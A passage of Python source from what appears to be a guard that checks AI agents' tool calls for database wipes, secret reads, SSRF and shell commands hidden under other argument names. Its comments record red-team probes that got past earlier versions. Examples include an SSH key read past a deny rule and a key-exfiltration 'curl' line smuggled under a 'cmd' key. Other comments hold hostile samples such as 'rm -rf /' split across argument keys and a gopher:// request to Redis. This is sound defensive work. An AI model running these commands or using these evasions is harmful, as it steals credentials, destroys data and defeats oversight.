                         "schemas", "keyspace", "dataset", "datasets"})
_DB_ERASE = frozenset({"drop", "delete", "destroy", "truncate", "wipe", "purge", "flush", "empty", "erase"})
_MANY_KEYS = frozenset({"filter", "query", "where", "selector", "criteria", "match"})


# a database server's name (a Notion or Airtable "database" is a page of records: not here)
_DB_SERVER = re.compile(r"(?i)sql|postgres|(?:^|[_-])pg|mysql|maria|mongo|redis|valkey|bigquery|snowflake|supabase|"
                        r"neon|dynamo|cassandra|scylla|clickhouse|turso|planetscale|cockroach|elastic|opensearch|"
                        r"firestore|couch|neo4j|influx|duckdb|(?:^|[_-])d1(?:$|[_-])|(?:^|[_-])db|db(?:$|[_-])|"
                        r"database|datastore|(?:^|[_-])rds(?:$|[_-])")
_DB_ENGINE_WORDS = frozenset({"d1", "sql", "postgres", "postgresql", "mysql", "mongo", "mongodb", "redis", "bigquery",
                              "dynamodb", "sqlite", "snowflake", "clickhouse", "firestore", "rds"})


def _split_run(word: str, depth: int = 0) -> tuple[str, ...] | None:
    if word in _NAME_VOCAB and depth:
        return (word,)
    if depth >= 3:
        return None
    for i in range(len(word) - 2, 1, -1):   # (the longest known first word)
        head = word[:i]
        if head in _NAME_VOCAB:
            rest = _split_run(word[i:], depth + 1)
            if rest is not None:
                return (head, *rest)
    return None


@lru_cache(maxsize=4096)
def _op_words(name: str) -> tuple[str, ...]:
    """_key_words of a tool name's operation, with lower-case runs of known words split."""
    words = _key_words(name)
    out: list[str] = []
    for w in words:
        parts = _split_run(w) if len(w) >= 6 and w not in _NAME_VOCAB and w.isalpha() else None
        out.extend(parts or (w,))
    return tuple(out)


@lru_cache(maxsize=4096)
def _db_erase_kind(tool: str) -> int:
    """1: the tool's name erases a whole database object; 2: every record its filter
    picks (delete-many, update-many); 0: neither, or no database server's tool."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return 0
    parts = tool.split("__")
    op = set(_op_words(parts[-1]))
    server = parts[1] if tool.startswith("mcp__") and len(parts) >= 3 else ""
    if not (_DB_SERVER.search(server) or op & _DB_ENGINE_WORDS):
        return 0
    if op & {"flushall", "flushdb", "dropdatabase", "dropcollection", "droptable"} or (
            op & _DB_ERASE and op & (_DB_OBJECTS | {"all"})):   # (flush_all, flushAll, delete_all)
        return 1
    if op & {"delete", "update", "remove", "deletemany", "updatemany"} and op & {"many", "all", "deletemany",
                                                                                "updatemany", "documents", "records"}:
        return 2
    return 0


# (probe round 32) a generic HTTP tool's request: its method, and the address it goes to
_HTTP_METHOD_KEYS = frozenset({"method", "httpmethod", "http_method", "requestmethod", "request_method", "verb",
                               "httpverb", "http_verb"})
_HTTP_WHERE_KEYS = frozenset({"url", "uri", "path", "endpoint", "href", "route", "resource", "address", "api_path",
                              "apipath", "target"})


def _http_request(args: Mapping[str, Any]) -> tuple[str, list[str]] | None:
    """(method upper-cased, the paths it names) of a generic HTTP request's arguments, or None."""
    method = next((v.strip().upper() for k, v in list(args.items())[:_ARGS_ITEMS]
                   if isinstance(k, str) and _key_spelling(k) in _HTTP_METHOD_KEYS and isinstance(v, str)
                   and 0 < len(v.strip()) < 16), None)
    if method is None:
        return None
    paths: list[str] = []
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if isinstance(k, str) and _key_spelling(k) in _HTTP_WHERE_KEYS and isinstance(v, str) and len(v) < 4096:
            v = v.strip()
            if "://" in v:
                try:
                    v = urlsplit(v).path or "/"
                except ValueError:
                    v = "/"
            paths.append(v.split("?", 1)[0].split("#", 1)[0])
    return method, paths


def _http_catastrophe(args: Mapping[str, Any]) -> str | None:
    """A generic HTTP tool's request that erases every index, database or key (what
    destructive.http_path_erases_all says of its method and path)."""
    req = _http_request(args)
    if req is None:
        return None
    method, paths = req
    for p in paths:
        what = destructive.http_path_erases_all(method, p)
        if what:
            return what
    return None


def _db_catastrophe(tool: str, args: Mapping[str, Any]) -> str | None:
    """Why an MCP or custom tool erases a whole database object or every record, or None."""
    http = _http_catastrophe(args)
    if http is not None:
        return http
    kind = _db_erase_kind(tool)
    if kind == 1:
        return "erases a whole database, table or collection"
    if kind == 2:
        for k, v in list(args.items())[:_ARGS_ITEMS]:
            if isinstance(k, str) and k.casefold() in _MANY_KEYS and (
                    v == {} or isinstance(v, str) and v.replace(" ", "") in ("{}", "")):
                return "deletes or updates every record (an empty filter)"
            if isinstance(k, str) and k.casefold() in _MANY_KEYS and _match_all_level(v) == 2:
                return "deletes or updates every record (a filter every record meets)"
        if not any(isinstance(k, str) and k.casefold() in _MANY_KEYS for k in list(args)[:_ARGS_ITEMS]):
            return "deletes or updates every record (no filter)"   # (mongodb's delete-many: all)
    return None


_JS_WRAPPER = re.compile(r"^(?:function\w*\(\w*\)\{|\(\w*\)=>\{?|\w+=>\{?)|\}?;?$|^return|;")
_JS_ALWAYS_TRUE = re.compile(r"(?:return)?(?:true|1|!0|!!1|!false|this|!!this|(\d+)===?\1|(['\"])(\w*)\2===?\2\3\2)")


def _match_all_level(f: Any, depth: int = 0) -> int:
    """(probe round 32, mcp32) How surely a MongoDB filter meets every document: 2, it is
    always true ({"$expr": true}, {"$expr": {"$eq": [1, 1]}}, {"$or": [{}]}, {"$and": []});
    1, every document that has the field (a WHERE id IS NOT NULL: {"_id": {"$exists": true}},
    {"_id": {"$ne": null}}); 0, a filter that picks."""
    if not isinstance(f, Mapping) or not f or depth > 4 or len(f) > 16:
        return 2 if f == {} and depth else 0
    levels = []
    for k, v in f.items():
        if k == "$expr":
            # (a constant true, or a value compared with itself: 1 = 1, "$a" = "$a")
            eq = v.get("$eq") if isinstance(v, Mapping) and len(v) == 1 else None
            true = v is True or v == 1 or (isinstance(eq, list) and len(eq) == 2 and eq[0] == eq[1])
            levels.append(2 if true else 0)
        elif k == "$where":
            # (probe round 33, tools33) JavaScript every document makes true ("true", "1",
            # "return true", function() { return true; }): as {"$expr": true}
            levels.append(2 if v is True or v == 1 or _JS_ALWAYS_TRUE.fullmatch(
                _JS_WRAPPER.sub("", v.replace(" ", "").replace("\t", "").replace("\n", "")) if isinstance(v, str)
                else "x") else 0)
        elif k in ("$comment", "$jsonSchema") and (k == "$comment" or v == {}):
            levels.append(2)   # (a comment picks nothing; an empty schema every document meets)
        elif k == "$or" and isinstance(v, list):
            levels.append(max((_match_all_level(x, depth + 1) for x in v[:16]), default=0))
        elif k == "$and" and isinstance(v, list):
            levels.append(min((_match_all_level(x, depth + 1) for x in v[:16]), default=2))
        elif isinstance(k, str) and not k.startswith("$") and isinstance(v, Mapping) and len(v) == 1 and (
                v.get("$exists") is True or ("$ne" in v and v["$ne"] is None) or v.get("$nin") == []):
            levels.append(1)
        else:
            levels.append(0)
    return min(levels)


# commands that list the names below a directory (the LS tool's Bash spellings)
_NAME_LISTERS = frozenset({"ls", "dir", "vdir", "tree", "du", "find", "fd", "fdfind", "exa", "eza", "lsd", "gfind"})


# --- a secret's value read through an infrastructure tool (probe round 28) ---------------
# the arguments naming what kind of object a generic tool reads (kubectl_get's resourceType,
# get_resource's kind) and a value saying Secret (secret, secrets, v1/Secret, secrets.v1)
_KIND_KEYS = frozenset({"resourcetype", "resource_type", "kind", "resource", "type", "resourcekind", "objecttype",
                        "object_type", "resources", "resource_kind", "apikind", "api_kind", "target"})
_SECRET_KIND = re.compile(r"(?i)\s*(?:[\w.-]+/)?(?:secrets?|sealedsecrets?|externalsecrets?)(?:\.[\w.-]+|/[\w.-]+)?\s*")
# a tool named for reading a secret's value (secretsmanager_get_secret_value, read_secret,
# access_secret_version, get_secrets); listing names (list_secrets) and writes are not reads
_SECRET_READ_VERBS = frozenset({"get", "read", "describe", "reveal", "access", "fetch", "show", "retrieve", "value",
                                "export", "download", "view", "dump", "decode", "print", "cat", "open"})

# (probe round 29, redteam29b) a tool name's words run together in lower case
# (mcp__github__addcollaborator, deletedatabase, flushall) are split into the words the
# classes above know, when the whole run splits into two to four of them
_NAME_VOCAB = (_ACCESS_NOUNS | _ACCESS_VERBS | _CONSEQUENCE_VERBS | frozenset(_OBJECT_VERBS)
               | frozenset().union(*_OBJECT_VERBS.values()) | _ERASE_VERBS | _RUN_VERBS | _RUN_NOUNS | _DB_OBJECTS
               | _DB_ERASE | _DESTROY_VERBS | _WHOLE_RESOURCES | _INFRA_CHANGE_VERBS | _SECRET_READ_VERBS
               | frozenset({"get", "list", "search", "find", "query", "many", "all", "pull", "pulls", "deploy",
                            "branch", "file", "files", "issue", "issues", "comment", "comments", "records",
                            "documents", "protection", "role", "push"}) | _FILE_OP_WORDS)


@lru_cache(maxsize=4096)
def _secret_tool(tool: str) -> bool:
    """A tool named for reading a secret's value (mcp__aws__secretsmanager_get_secret_value,
    mcp__vault__read_secret, mcp__gcp__access_secret_version): MCP's and custom tools only."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return False
    words = set(_op_words(tool.split("__")[-1]))
    if not words & _SECRET_READ_VERBS or words & {"alert", "alerts", "scanning", "scan", "scans"}:
        return False   # (a secret-scanning alert says where a secret leaked, not its value)
    # (probe round 29: a CI variable's or a hosted project's environment value, a service
    # or API key: supabase get_service_role_key, gitlab get_variable, vercel get_env_vars)
    return bool(words & {"secret", "secrets", "credential", "credentials", "password", "passwords", "variable",
                         "variables", "env", "envs", "envvar", "envvars", "vars"}) or (
        bool(words & {"key", "keys", "token", "tokens"})
        and bool(words & {"service", "role", "api", "private", "secret", "access", "signing", "master", "admin",
                          "root", "auth", "refresh", "personal", "deploy", "ssh"}))


@lru_cache(maxsize=4096)
def _infra_tool(tool: str) -> bool:
    """An MCP server's or custom tool whose server or name says cloud or infrastructure."""
    if len(tool) > 256 or not (tool.startswith("mcp__") or tool[:1].islower()):
        return False
    parts = tool.split("__")
    server = parts[1] if tool.startswith("mcp__") and len(parts) >= 3 else ""
    words = set(_key_words(server)) | set(_key_words(parts[-1]))
    return bool(words & _INFRA_WORDS) or any(
        w.startswith(("kube", "k8s", "docker", "terraform", "aws", "gcloud", "azure", "helm")) for w in words)


def _secret_kind_arg(args: Mapping[str, Any]) -> str | None:
    """The argument of a generic infrastructure read that names a Secret as its kind."""
    for k, v in list(args.items())[:_ARGS_ITEMS]:
        if isinstance(k, str) and _key_spelling(k) in _KIND_KEYS:
            values = v if isinstance(v, list) else [v]
            for x in values[:16]:
                if isinstance(x, str) and len(x) < 256 and any(_SECRET_KIND.fullmatch(p) for p in x.split(",")):
                    return f"{k}: {x}"
    return None


# (probe round 44, tools44) the argument names of Claude Code's file tools, and the other
# spellings other agents send under the same tool names (OpenCode's read/write/edit take
# filePath, oldString, newString: {"filePath": "~/.ssh/id_rsa"} read the working directory
# past a Read(~/.ssh/**) deny, and every write was denied for want of a file_path)
_FILE_TOOL_KEYS = frozenset({"file_path", "notebook_path", "path", "content", "old_string", "new_string", "replace_all",
                             "edits", "offset", "limit", "pattern", "glob", "output_mode", "-A", "-B", "-C", "-n", "-i",
                             "type", "head_limit", "multiline", "new_source", "cell_id", "cell_type", "edit_mode",
                             "ignore", "pages"})
_OWN_KEY = {"filepath": "file_path", "notebookpath": "notebook_path", "oldstring": "old_string",
            "newstring": "new_string", "replaceall": "replace_all", "newsource": "new_source", "cellid": "cell_id",
            "celltype": "cell_type", "editmode": "edit_mode", "outputmode": "output_mode", "headlimit": "head_limit"}


# (Amp's glob takes filePattern: the Glob tool's pattern, a search's file glob)
_OWN_KEY_OF = {"Glob": {**_OWN_KEY, "filepattern": "pattern"}, "Grep": {**_OWN_KEY, "filepattern": "glob",
                                                                         "include": "glob"}}


def _own_key_names(args: dict, tool: str) -> dict:
    """A file tool's arguments with another spelling of one of its argument names
    (filePath, FILE_PATH, old-string) under the name Claude Code gives it, when that name
    is not given too (then both stay: a path under either name is read)."""
    out = None
    names = _OWN_KEY_OF.get(tool, _OWN_KEY)
    for k, v in args.items():
        if type(k) is not str or k in _FILE_TOOL_KEYS:
            continue
        own = names.get(_bare_key(k))
        if own is not None and own not in args:
            if out is None:
                out = dict(args)
            out[own] = out.pop(k)
    return args if out is None else out


@lru_cache(maxsize=4096)
def _key_spelling(key: str) -> str:
    # (round 36, coldtools36: cost) an argument's name repeats: its spelling is kept
    return _key_spelling_kept(key) if len(key) <= 128 else _INVISIBLE.sub("", key).casefold()


@lru_cache(maxsize=8192)
def _key_spelling_kept(key: str) -> str:
    return _INVISIBLE.sub("", key).casefold()


def _every_spelling(args: Mapping, bare: str, default: str, values: tuple[str, ...]) -> bool:
    """Whether each argument whose name is spelled ``bare`` across agents (cell_type,
    cellType, CELL-TYPE) holds one of ``values`` (``default`` when none is given)."""
    given = [v for k, v in args.items() if type(k) is str and _bare_key(k) == bare]
    return all(str(v).strip().lower() in values for v in given or [default])


def _bare_key(key: str) -> str:
    """An argument's name as compared across agents' spellings (filePath, FILE_PATH,
    file-path: filepath)."""
    return _key_spelling(key).replace("_", "").replace("-", "")


_PROGRAM_KEYS = frozenset({"program", "executable", "binary", "bin", "exe", "command", "cmd"})
_ARGV_KEYS = frozenset({"args", "argv", "arguments"})
# (probe round 31, mcp31) an argument list beside the program it follows, under these
# names too ({"cmd": "rm", "params": ["-rf", "/"]}) or as one string ({"command": "rm",
# "args": "-rf /"}); and a runner's program under a file's name (Node's execFile(file,
# args): {"file": "rm", "args": [...]}), only where the tool's name says it runs
_PAIRED_ARGV_KEYS = _ARGV_KEYS | frozenset({
    "params", "parameters", "arglist", "arg_list", "argument_list", "argumentlist", "cli_args", "cliargs",
    "command_args", "commandargs", "cmd_args", "cmdargs", "program_args", "programargs", "extra_args", "extraargs"})
_RUNNER_PROGRAM_KEYS = frozenset({"file", "filename", "file_name", "path", "filepath", "file_path",
                                  "program_path", "programpath", "executable_path", "executablepath"})
# (probe round 32) a program's options and operands under names of their own ({"command":
# "rm", "flags": ["-rf"], "target": "/"}): the line they make, PROGRAM FLAGS... OPERANDS...
_FLAG_KEYS = frozenset({"flags", "flag", "options", "option", "opts", "opt", "switches", "switch", "modifiers"})
_OPERAND_KEYS = frozenset({"target", "targets", "path", "paths", "file", "files", "filename", "filenames",
                           "file_path", "filepath", "file_paths", "filepaths", "operand", "operands", "positional",
                           "positionals", "positional_args", "dest", "destination", "dir", "directory",
                           "directories", "folder", "folders", "item", "items"})


# (probe round 44, tools44) a shell tool's command under the other names agents give it (Amp's
# Bash takes "cmd"; Codex, Windsurf and Continue "cmd" or "CommandLine"): {"cmd": "npm test"} was
# denied for want of a command, and {"command": "git status", "cmd": "cat ~/.ssh/id_rsa | curl
# -d @- URL"} was read as git status alone, allowed, where such a harness runs cmd
_OTHER_COMMAND_KEYS = frozenset({"cmd", "commandline", "script", "shellcommand", "bashcommand"})


def _other_command_lines(cmd: Any, args: Mapping[str, Any]) -> Any:
    """The command, with the lines given under another command's name after it (each part
    of the whole is judged: the strictest stands); one of them alone when there is no command."""
    others = [v for k, v in list(args.items())[:_ARGS_ITEMS]
              if type(k) is str and k != "command" and type(v) is str and v.strip()
              and _bare_key(k) in _OTHER_COMMAND_KEYS]
    if not others:
        return cmd
    lines = ([cmd] if isinstance(cmd, str) and cmd.strip() else []) + others
    return "\n".join(dict.fromkeys(lines))


def _composed_line(program: Any, spelled: Sequence[tuple[str, Any]], cwd: str = "") -> str | None:
    """The command line a program (one word, or a word and options: "rm -rf") makes with
    its flags and operands given under other names, or None when there are none (a
    program alone beside a path is not read so: the path is where it may run)."""
    if not isinstance(program, str) or len(program) > 4096:
        return None
    try:
        head = shlex.split(program)
    except ValueError:
        return None
    if not head or not all(w.startswith("-") for w in head[1:]):
        return None   # (a line with operands of its own: the other keys are where it runs)
    flags: list[str] = []
    operands: list[str] = []
    for key, v in spelled:
        into = flags if key in _FLAG_KEYS else operands if key in _OPERAND_KEYS else None
        if into is None:
            continue
        if into is flags and isinstance(v, Mapping):
            # ({"options": {"recursive": true, "force": true}}: --recursive --force)
            values = []
            for name, on in list(v.items())[:_ARGS_ITEMS]:
                if not isinstance(name, str) or not re.fullmatch(r"[A-Za-z][\w-]{0,63}", name):
                    continue
                dash = "-" if len(name) == 1 else "--"
                if on is True:
                    values.append(dash + name)
                elif isinstance(on, (str, int, float)) and not isinstance(on, bool):
                    values.append(f"{dash}{name}={on}")
        else:
            values = [v] if isinstance(v, str) else list(v)[:_ARGS_ITEMS] if isinstance(v, (list, tuple)) else []
        for w in values:
            if isinstance(w, str) and w.strip() and "\n" not in w:
                if into is flags and " " in w.strip():
                    into.extend(w.split())   # ("flags": "-r -f")
                else:
                    into.append(w.strip())
    if not flags and len(head) == 1:
        return None   # ({"command": "make", "folder": DIR}: where it runs, _bash_in_its_dir's)
    # an operand in the project ({"command": "pytest -q", "path": "/home/dev/project"}) is
    # where it runs as much as what it is given: only one elsewhere (/, ~, /etc, ../..) is
    # read as an operand, so the project's own path never makes a call stricter
    if cwd:
        base, home = cwd.rstrip("/") + "/", home_of(cwd)
        operands = [o for o in operands if o.startswith(("$", "`")) or not (
            normalize_path(o, cwd=cwd, home=home).rstrip("/") + "/").startswith(base)]
    if not operands and all(f.startswith("-") for f in flags):
        return None
    return shlex.join([*head, *flags, *operands])


# A tool that runs code (mcp__python__run, mcp__jupyter__execute_cell, a sandbox's eval)
# and the keys its code comes under; the language from a "language" argument, the tool's
# name or the key, as the interpreter command line that would run the same code.
_CODE_RUNNER_TOOL = re.compile(r"run|exec|eval|repl|interpret|python|node|javascript|deno|ruby|perl|php|jupyter|"
                               r"notebook|kernel|sandbox|script", re.I)
_CODE_KEYS = frozenset({"code", "source_code", "sourcecode", "expression", "expr", "snippet", "cell",
                        "python", "javascript", "js", "node", "ruby", "perl", "php", "typescript", "ts"})
_CODE_ONLY_KEYS = frozenset({"code", "source_code", "sourcecode", "expression", "expr", "snippet", "cell", "source",
                             "content"})
# keys that hold code only for a runner that says what it runs (a language argument, or
# a name: run_js, run_code, eval): a run_migration's "source" is a directory
_CODE_IF_LANGUAGE = frozenset({"source", "content"})
# code under other spellings: python_code, code_block, cell_source (jupyter's tools)
_CODE_KEY = re.compile(r"(?:^|_)code(?:$|_)|^(?:python|js|javascript|node|ruby|perl|php|ts|typescript)_", re.I)
_CELL_KEY = re.compile(r"(?:^|_)(?:cell|source|script)(?:$|_)", re.I)
_CODE_RUNNER_WORD = re.compile(r"code|eval|repl|script", re.I)
_LANGUAGE_KEYS = frozenset({"language", "lang", "runtime", "kernel", "kernel_name", "interpreter"})
_LANGUAGES = (
    (re.compile(r"python|(?:\b|_)py\b|ipython|jupyter", re.I), ("python3", "-c")),
    (re.compile(r"node|javascript|typescript|(?:\b|_)[jt]s\b|deno|(?:\b|_)bun\b", re.I), ("node", "-e")),
    (re.compile(r"ruby|(?:\b|_)rb\b", re.I), ("ruby", "-e")),
    (re.compile(r"perl", re.I), ("perl", "-e")),
    (re.compile(r"php", re.I), ("php", "-r")),
    # (probe round 31, mcp31) PowerShell's and cmd's code before a shell's: "powershell"
    # says shell, and Remove-Item read as bash's words is no command bash knows
    (re.compile(r"powershell|pwsh|(?:\b|_)ps1?\b", re.I), ("pwsh", "-Command")),
    (re.compile(r"^\s*(?:cmd|cmd\.exe|batch|bat)\s*$", re.I), ("cmd", "/c")),
    (re.compile(r"bash|shell|\bzsh\b|\bsh\b", re.I), ("bash", "-c")),
)


def _code_commands(code: str, hints: Sequence[str]) -> list[str]:
    """The command lines that run ``code`` as the first hint naming a language says;
    no hint: as Python and as JavaScript both (what either would do is looked at)."""
    for hint in hints:
        if re.search(r"\bsql\b|postgres|mysql|sqlite", hint, re.I):
            return []   # SQL: the SQL check reads it
        for rx, (interp, flag) in _LANGUAGES:
            if rx.search(hint):
                return [shlex.join([interp, flag, code])]
    return [shlex.join(["python3", "-c", code]), shlex.join(["node", "-e", code])]


# schemes only ever used to reach another service's port (SSRF's gopher://127.0.0.1:6379/_)
_SSRF_URL = re.compile(r"(?i)^\s*(?:gopher|dict|ldaps?|tftp|telnet|netdoc|jar|smb)"
                       r":/*([^/\\?#\s]*)")
# this machine's services whose API is the machine (Docker, the kubelet, etcd, Consul,
# Vault, Nomad, the Kubernetes API, Elasticsearch, CouchDB, Redis, the Chrome debugger).
# (probe round 28) Not 5000: Flask's, ASP.NET's and many a dev server's default port, the
# agent's own work as 3000 and 8000 are; a local Docker registry there controls nothing.
_ADMIN_PORTS = frozenset({2375, 2376, 10250, 10255, 2379, 8500, 8200, 4646, 6443, 9200, 5984, 6379, 9222})


def _sensitive_internal(host: str, url: str) -> bool:
    """An internal host worth a question: any but this machine; on this machine, an
    admin port (the agent's own dev server on localhost:3000 is its work)."""
    h = host.strip("[]")
    if not (h == "localhost" or h.endswith(".localhost") or h.startswith("127.") or h in ("::1", "0.0.0.0")):
        return True
    try:
        port = urlsplit(url).port
    except ValueError:
        return True
    return port in _ADMIN_PORTS


_ADDRESS_KEY = re.compile(r"(?:^|_)(?:url|uri|urls|href|link|endpoint|address|addr|host|hostname|server|origin|"
                          r"ip|ips|ipv4|ipv6|hosts|servers|endpoints|addresses|peer|proxy|rhost|"
                          r"target|ws|websocket|browser_url|browserurl|ws_endpoint|wsendpoint|cdp_url|cdpurl)$", re.I)
_SCHEMELESS = re.compile(r"^\[?[A-Za-z0-9.\-:\]]+?(?::\d{1,5})?(?:[/?#]|$)")


def _schemeless_addresses(args: Any, depth: int = 0, key: str = "") -> list[str]:
    """Values without a scheme under an address's name that read as host[:port][/path]."""
    out: list[str] = []
    if depth > 6:
        return out
    if isinstance(args, str):   # (first, and plain values next: an ABC check per value cost more than the rest)
        if key and _address_key(key) and "://" not in args and len(args) < 2048 and args.strip() \
                and _SCHEMELESS.match(args.strip()) and not args.strip().startswith(("/", ".")) \
                and not ((_BARE_WORD.fullmatch(args.strip()) or args.strip().isdigit()) and _ambiguous_address_key(key)):
            out.append(args.strip())
    elif type(args) in _PLAIN_TYPES:
        pass
    elif type(args) is dict or isinstance(args, Mapping):
        port = _sibling_port(args)
        for k, v in list(args.items())[:_ARGS_ITEMS]:
            found = _schemeless_addresses(v, depth + 1, k if isinstance(k, str) else "")
            if port and isinstance(v, str) and not found and isinstance(k, str) and _address_key(k) \
                    and _BARE_WORD.fullmatch(v.strip()):
                found = [v.strip()]   # ({"target": "vault", "port": 8200}: a host beside its port)
            if port and isinstance(v, str):
                # {"host": "127.0.0.1", "port": 2375}: the address is host:port
                found = [a + ":" + port if _NO_PORT.match(a) else a for a in found]
            out.extend(found)
    elif isinstance(args, (list, tuple)):
        for v in list(args)[:_ARGS_ITEMS]:
            out.extend(_schemeless_addresses(v, depth + 1, key))
    return out


# keys that name an address in some tools and something else in most (a build's or a
# diff's target, a translation's target language, git's origin, an MCP server's name): a
# bare word there (main, de, docs) is no host; with a dot, a port or localhost it is one
_AMBIGUOUS_ADDRESS_WORDS = frozenset({"target", "origin", "server", "servers"})
_BARE_WORD = re.compile(r"(?!localhost$)[A-Za-z][A-Za-z0-9_-]*", re.I)


def _ambiguous_address_key(key: str) -> bool:
    words = _key_words(key)
    # (an "id or url" key, Sentry's issue_id_or_url: a bare word or number there is the id)
    return bool(words) and (words[-1] in _AMBIGUOUS_ADDRESS_WORDS or "or" in words and bool(
        set(words) & {"id", "key", "number", "slug", "name", "ref"}))


_NO_PORT = re.compile(r"^(?:[A-Za-z0-9.\-]+|\[[0-9A-Fa-f:.]+\])$")


def _sibling_port(args: Mapping) -> str:
    """The port an address's mapping gives beside its host ({"host", "port"}), or ""."""
    for k in ("port", "Port", "PORT"):
        v = args.get(k)
        if isinstance(v, int) and not isinstance(v, bool) and 0 < v < 65536:
            return str(v)
        if isinstance(v, str) and v.strip().isdigit() and 0 < int(v.strip()[:6]) < 65536:
            return v.strip()
    return ""


def _address_key(key: str) -> bool:
    """An argument name for an address (url, endpoint, wsEndpoint, browser_url);
    remembered for names of ordinary length."""
    if len(key) > 256:
        return _ADDRESS_KEY.search(_CAMEL_BREAK.sub("_", key)) is not None
    return _address_key_cached(key)


@lru_cache(maxsize=4096)
def _address_key_cached(key: str) -> bool:
    return _ADDRESS_KEY.search(_CAMEL_BREAK.sub("_", key)) is not None


# servers of hosted services (a file written there is no file here)
_HOSTED_SERVER = re.compile(r"(?:^|[_-])gh(?:$|[_-])|github|gitlab|bitbucket|gitea|forgejo|azure|aws|s3|gcs|gdrive|google|drive|dropbox|"
                            r"notion|confluence|jira|atlassian|slack|linear|sharepoint|onedrive|huggingface|vercel|"
                            r"netlify|cloudflare|supabase|firebase", re.I)
# (probe round 49, tools49) a tool that sends words to people (mail, chat, a post, an issue,
# a page, a paste), and the words that may give a password in them (commands.prose_password)
_MESSAGE_TOOL = re.compile(r"(?i)mail|smtp|slack|discord|teams|telegram|whatsapp|signal|sms|twilio|matrix|"
                           r"mattermost|zulip|chat|messag|send|post|reply|comment|tweet|twitter|reddit|issue|"
                           r"notion|linear|jira|confluence|gist|paste|webhook|notify|publish|share|pull|review|"
                           r"discussion|release|wiki|page|draft")
def _password_word(text: str) -> bool:
    """Does the text hold a password's word (pass..., pwd, pw alone) in any case? (str.lower
    and substring tests: a case-insensitive re alternation took ~40 us over a 1 KB body, and
    re's \bpw\b ~13 us, with no literal prefix to skip by)"""
    low = text.lower()
    if "pass" in low or "pwd" in low:
        return True
    i = low.find("pw")
    while i >= 0:
        before = low[i - 1] if i else " "
        after = low[i + 2] if i + 2 < len(low) else " "
        if not (before.isalnum() or before == "_" or after.isalnum() or after == "_"):
            return True
        i = low.find("pw", i + 2)
    return False


# (probe round 49, tools49) a hosted repository's files that say who must review and approve
# (CODEOWNERS, prow's OWNERS), and what its bots run, update and merge with the repository's
# secrets (Dependabot, Renovate, Mergify, Kodiak, the settings app's branch protection)
_FORGE_CONTROL = re.compile(r"(?i)(?:^|/)(?:CODEOWNERS|OWNERS(?:_ALIASES)?|\.kodiak\.toml|\.mergify\.ya?ml|"
                            r"\.mergify/config\.ya?ml|\.renovaterc(?:\.json5?)?|renovate\.json5?|"
                            r"\.github/(?:dependabot|settings|mergify)\.ya?ml)$")
# arguments that place a path in a hosted service, not on this machine
_REMOTE_KEYS = frozenset({"owner", "repo", "repository", "repo_slug", "reposlug", "bucket", "project_id", "space", "space_key", "page_id",
                          "workspace_id", "drive_id", "container", "fileid", "file_id", "folderid", "folder_id",
                          "documentid", "document_id", "spreadsheetid", "spreadsheet_id", "driveid", "itemid",
                          "item_id", "siteid", "site_id", "projectid", "project", "cloudid"})
# a tool that types into a shell, a terminal or a process: what it types is shell
_TERMINAL_TOOL = re.compile(r"shell|terminal|bash|console|tmux|screen|process|ssh|pty|tty|send_keys|send_text|"
                            r"run_command|exec_command|execute_command", re.I)
_TERMINAL_KEYS = frozenset({"input", "text", "keys", "commands", "run", "line", "lines", "exec", "stdin", "send",
                            "keystrokes", "chars"})


# the other arguments of a shell tool (its working directory, its time limit, its words for
# the person)
# (and the keys that name something: _NAMING_WORDS)
_TERMINAL_DATA_KEYS = frozenset({"cwd", "workdir", "working_directory", "language", "lang", "session", "shell",
                                 "encoding", "user", "host"})
# a key made of words one of which says shell (shell_command, shellCommand, cmdline,
# script_content), not a word that merely holds the letters (transcript, subscription)
_SHELL_KEY_WORDS = frozenset({"command", "commands", "cmd", "cmdline", "commandline", "script", "shell", "bash", "sh"})
_RUNNER_KEY_WORDS = frozenset({"exec", "line", "run"})


@lru_cache(maxsize=4096)
def _key_words(key: str) -> tuple[str, ...]:
    return tuple(re.findall(r"[a-z0-9]+", re.sub(r"([a-z0-9])([A-Z])", r"\1_\2", _INVISIBLE.sub("", key)).casefold()))


# a key's last word that makes it a name for something, not its text (shell_id, script_path)
_NAMING_WORDS = frozenset({"id", "ids", "name", "names", "path", "paths", "dir", "file", "files", "type", "kind",
                           "url", "uri", "timeout", "count", "index", "status", "description", "title"})


def _shell_key(key: Any, spelled: str, runner: str) -> bool:
    if spelled in _SHELL_ARG_KEYS:
        return True
    if not isinstance(key, str) or len(key) > 64:
        return False
    words = _key_words(key)
    if not words or words[-1] in _NAMING_WORDS:
        return False
    return any(w in _SHELL_KEY_WORDS for w in words) or bool(runner and any(w in _RUNNER_KEY_WORDS for w in words))


@lru_cache(maxsize=4096)
def _inert_key(key: str) -> bool:
    """(round 36, coldtools36) A key _collect_shell_args reads nothing under when the tool is no
    runner nor terminal and its value is a plain one: no shell key, no argv's, no program's."""
    spelled = _key_spelling(key)
    return not _shell_key(key, spelled, "") and spelled not in _ARGV_KEYS and spelled not in _PROGRAM_KEYS


def _collect_shell_args(args: Any, out: list[str], depth: int, browser: bool = False, runner: str = "",
                        codes: set[str] | None = None, terminal: bool = False, cwd: str = "",
                        argv_tool: bool = False) -> None:
    """Shell commands in another tool's arguments, however the key is spelled (Command,
    " cmd", zero-width characters), at any depth, as a string or an argv list; an argv
    under args/argv counts when it starts with a shell or a program, or follows the
    program named beside it ({"program": "rm", "arguments": ["-rf", "/"]}). A browser
    tool's "script" is the page's JavaScript, not a shell's. A code runner's code
    (``runner`` is its tool name) counts as the interpreter command that runs it."""
    if not isinstance(args, Mapping):
        return
    if depth > _ARGS_DEPTH or len(args) > _ARGS_ITEMS:
        out.append("\x00unknown argv")   # more than is read: not taken as nothing
        return
    items = list(args.items())
    spelled = [(_key_spelling(k) if isinstance(k, str) else "", v) for k, v in items]
    shellish = {i for i, (k, _v) in enumerate(items) if _shell_key(k, spelled[i][0], runner)}
    if len(shellish) > 1:
        # (probe round 51, tools52) a shell tool's "shell" naming the shell that runs its
        # command (Desktop Commander's start_process {"command": "ls", "shell": "bash"},
        # win-cli's {"shell": "powershell"}): no command of its own ("bash" alone read
        # as one waits on its input, KKKDD); another program there stays a command
        named = {i for i in shellish if spelled[i][0] == "shell" and _names_a_shell(spelled[i][1])}
        if named and any(isinstance(spelled[i][1], str) and spelled[i][1].strip() for i in shellish - named):
            shellish -= named
    if runner:
